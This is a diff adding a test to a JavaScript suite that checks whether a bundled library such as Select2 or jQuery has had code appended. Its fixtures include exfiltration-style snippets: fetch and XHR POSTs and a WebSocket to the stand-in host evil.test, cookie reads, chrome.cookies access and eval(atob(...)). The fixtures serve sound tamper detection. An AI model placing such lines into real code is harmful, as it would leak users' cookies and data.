@@ -65,6 +65,14 @@ describe('librariesOf', () => {
     expect(find(`(function(){})();${body('dompurify')}n.version="3.0.5",n.removed=[];`, 'lib/purify.min.js')[0]?.whole).toBe(true);
   });
 
+  it('does not take a library to which something was added', () => {
+    for (const added of ["fetch('https://evil.test/', { method: 'POST' });", 'document.cookie', "new WebSocket('wss://evil.test')", 'eval(atob("YQ=="))', 'var _0x3f2a = ["x"];', 'window["a"] = chrome["cookies"];']) {
+      expect(find(`/*! Select2 4.0.11\n */\n/*\n * Select2 4.0.11\n */\n${body('select2')}`)[0]?.whole).toBe(true);
+      expect(find(`/*\n * Select2 4.0.11\n */\n${body('select2')}\n${added}`)[0]?.whole, added).toBe(false);
+    }
+    expect(find(`/*! jQuery v3.5.1 */\n${body('jquery')}\nx.open("POST", "https://evil.test/in");`)[0]?.whole).toBe(false);
+  });
+
   it('names code that the library does not have', () => {
     const [library] = find(`/*! jQuery v3.5.1 */\n${body('jquery')}\nchrome.cookies.getAll({}, send);`);
     expect(library?.whole).toBe(false);
